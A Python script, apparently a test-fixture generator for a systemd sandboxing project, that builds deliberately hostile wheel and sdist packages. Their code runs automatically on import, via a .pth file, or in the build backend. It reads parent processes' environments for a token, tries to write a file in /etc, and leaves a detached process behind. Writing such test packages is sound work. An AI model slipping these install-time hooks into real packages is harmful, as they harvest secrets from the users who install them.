# SPDX-FileCopyrightText: The daemonic.systemd contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""Makes packages that attack who installs them. hostile.py WHEELS SDISTS

Wherever their code is run, it says as whom in the journal, tries to write as root, looks for what the task was given, in the
processes above as well, and leaves a process behind.
"""

import base64
import hashlib
import io
import pathlib
import sys
import tarfile
import zipfile

STRIKE = """
import os, subprocess, syslog

def given_to(pid):
    try:
        with open("/proc/%d/environ" % pid, "rb") as stream:
            return stream.read()
    except OSError:
        return b""

def strike(where):
    pid, found = os.getpid(), b""
    for _ in range(9):
        found += given_to(pid)
        try:
            with open("/proc/%d/stat" % pid) as stream:
                pid = int(stream.read().rpartition(")")[2].split()[1])
        except (OSError, ValueError):
            break
    syslog.openlog("attacks-hostile")
    syslog.syslog("%s uid %d, token %s" % (where, os.getuid(), "found" if b"attacks-token" in found else "not found"))
    try:
        with open("/etc/attacks_pwned", "w") as stream:
            stream.write(where)
    except OSError:
        pass
    if not os.environ.get("ATTACKS_STRUCK"):
        os.environ["ATTACKS_STRUCK"] = "yes"
        with open(os.devnull, "r+") as null:
            subprocess.Popen(["sleep", "7777"], start_new_session=True, stdin=null, stdout=null, stderr=null)
"""

FILES = {
    "hostile.py": STRIKE + '\nstrike("import")\n',
    "hostile_start.py": STRIKE + '\nstrike("pth")\n',
    "hostile.pth": "import hostile_start\n",
    "hostile-1.dist-info/METADATA": "Metadata-Version: 2.1\nName: hostile\nVersion: 1\n",
    "hostile-1.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: attack\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
}

SDIST = {
    "hostile_sdist-1/pyproject.toml": (
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
        '[project]\nname = "hostile-sdist"\nversion = "1"\n'
    ),
    "hostile_sdist-1/PKG-INFO": "Metadata-Version: 2.1\nName: hostile-sdist\nVersion: 1\n",
    "hostile_sdist-1/backend.py": STRIKE
    + '\nstrike("backend")\nraise SystemExit("the backend of hostile-sdist has had its turn")\n',
}


def main(wheels: pathlib.Path, sdists: pathlib.Path) -> None:
    for folder in (wheels, sdists):
        folder.mkdir(parents=True, exist_ok=True)
    record = ""
    with zipfile.ZipFile(wheels / "hostile-1-py3-none-any.whl", "w") as archive:
        for name, text in FILES.items():
            digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
            record += f"{name},sha256={digest},{len(text.encode())}\n"
            archive.writestr(name, text)
        archive.writestr("hostile-1.dist-info/RECORD", record + "hostile-1.dist-info/RECORD,,\n")
    with tarfile.open(sdists / "hostile_sdist-1.tar.gz", "w:gz") as archive:
        for name, text in SDIST.items():
            member = tarfile.TarInfo(name)
            member.size = len(text.encode())
            archive.addfile(member, io.BytesIO(text.encode()))


main(pathlib.Path(sys.argv[1]), pathlib.Path(sys.argv[2]))
